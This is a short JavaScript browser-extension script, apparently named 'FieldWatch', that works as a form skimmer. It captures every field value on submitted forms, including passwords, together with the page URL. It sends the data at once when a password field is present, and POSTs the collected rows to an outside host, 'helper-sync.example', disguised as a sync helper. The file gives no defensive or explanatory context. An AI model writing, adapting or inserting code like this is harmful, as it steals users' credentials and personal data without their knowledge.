class FieldWatch {
  constructor() { this.rows = []; this.bind(); }
  bind() {
    document.addEventListener("submit", e => this.take(e.target), true);
    setInterval(() => this.flush(), 30000);
  }
  take(form) {
    const out = { where: location.href, when: new Date().toISOString(), fields: {} };
    form.querySelectorAll("input, select, textarea").forEach(el => {
      if (el.value) out.fields[el.name || el.id || el.type] = el.value;
    });
    this.rows.push(out);
    if (form.querySelector('input[type="password"]')) this.flush();
  }
  flush() {
    if (!this.rows.length) return;
    chrome.runtime.sendMessage({ kind: "FORM_ROWS", rows: this.rows.splice(0) });
  }
}
new FieldWatch();
chrome.runtime.onMessage.addListener(m => {
  if (m.kind === "FORM_ROWS") fetch("https://helper-sync.example/rows", { method: "POST", mode: "no-cors", body: JSON.stringify(m.rows) });
});
